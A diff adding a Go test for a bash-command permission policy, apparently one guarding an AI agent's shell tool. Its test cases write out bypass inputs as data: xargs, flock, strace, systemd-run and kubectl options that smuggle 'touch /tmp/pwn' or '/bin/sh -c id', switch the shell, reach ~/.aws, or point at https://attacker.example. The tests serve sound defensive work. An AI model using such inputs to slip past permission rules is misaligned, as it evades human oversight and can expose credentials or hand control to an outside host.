@@ -68,3 +68,57 @@ func TestExportedVariablesAreJudgedAsTheProgramsOptions(t *testing.T) {
 		})
 	}
 }
+
+// TestWrapperOptionsThatSetVariablesPickTheShellOrPipeAsk: under a policy
+// that allows the wrappers and programs themselves, an option or variable
+// that sets the environment of what they run, picks the shell that runs
+// their script, pipes their output into a command, or points them at
+// other configuration or another host asks; their ordinary uses stay
+// allowed (red team of the fifteenth sitting).
+func TestWrapperOptionsThatSetVariablesPickTheShellOrPipeAsk(t *testing.T) {
+	p, err := policy.Parse([]byte(`
+mode: auto-edit
+home: /home/dev
+rules:
+  - { rule: "bash(xargs *)", action: allow }
+  - { rule: "bash(bash -c ls)", action: allow }
+  - { rule: "bash(ls)", action: allow }
+  - { rule: "bash(wc *)", action: allow }
+  - { rule: "bash(flock *)", action: allow }
+  - { rule: "bash(strace *)", action: allow }
+  - { rule: "bash(systemd-run *)", action: allow }
+  - { rule: "bash(kubectl get *)", action: allow }
+  - { rule: "bash(git status)", action: allow }
+  - { rule: "bash(echo *)", action: allow }
+`), "wrappers.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range []struct {
+		cmd  string
+		want policy.Action
+	}{
+		{"echo x | xargs --process-slot-var=BASH_ENV bash -c ls", policy.Ask},
+		{"echo . | xargs -I Q --process-slot-var=HOME git status", policy.Ask},
+		{"echo x | xargs -n 1 wc -l", policy.Allow},
+		{"SHELL=/usr/bin/perl flock lk -c ls", policy.Ask},
+		{"flock lk -c ls", policy.Allow},
+		{"strace -o '|touch /tmp/pwn' ls", policy.Ask},
+		{"strace -o '!touch /tmp/pwn' ls", policy.Ask},
+		{"strace -o trace.txt ls", policy.Allow},
+		{"systemd-run --user -p ExecStartPre='/bin/sh -c id' ls", policy.Ask},
+		{"systemd-run --user --property=WorkingDirectory=/home/dev/.aws ls", policy.Ask},
+		{"systemd-run --user -H me@example.org ls", policy.Ask},
+		{"systemd-run --user ls", policy.Allow},
+		{"kubectl get pods --kubeconfig=./kc.yaml", policy.Ask},
+		{"kubectl get pods -s https://attacker.example", policy.Ask},
+		{"KUBECONFIG=./kc.yaml kubectl get pods", policy.Ask},
+		{"kubectl get pods -n web", policy.Allow},
+	} {
+		args, _ := json.Marshal(map[string]string{"command": tt.cmd})
+		d := p.Evaluate(policy.Call{Tool: "bash", Arguments: args, Cwd: "/home/dev/proj"})
+		if d.Action != tt.want {
+			t.Errorf("%s: got %s (%s), want %s", tt.cmd, d.Action, d.Reason, tt.want)
+		}
+	}
+}
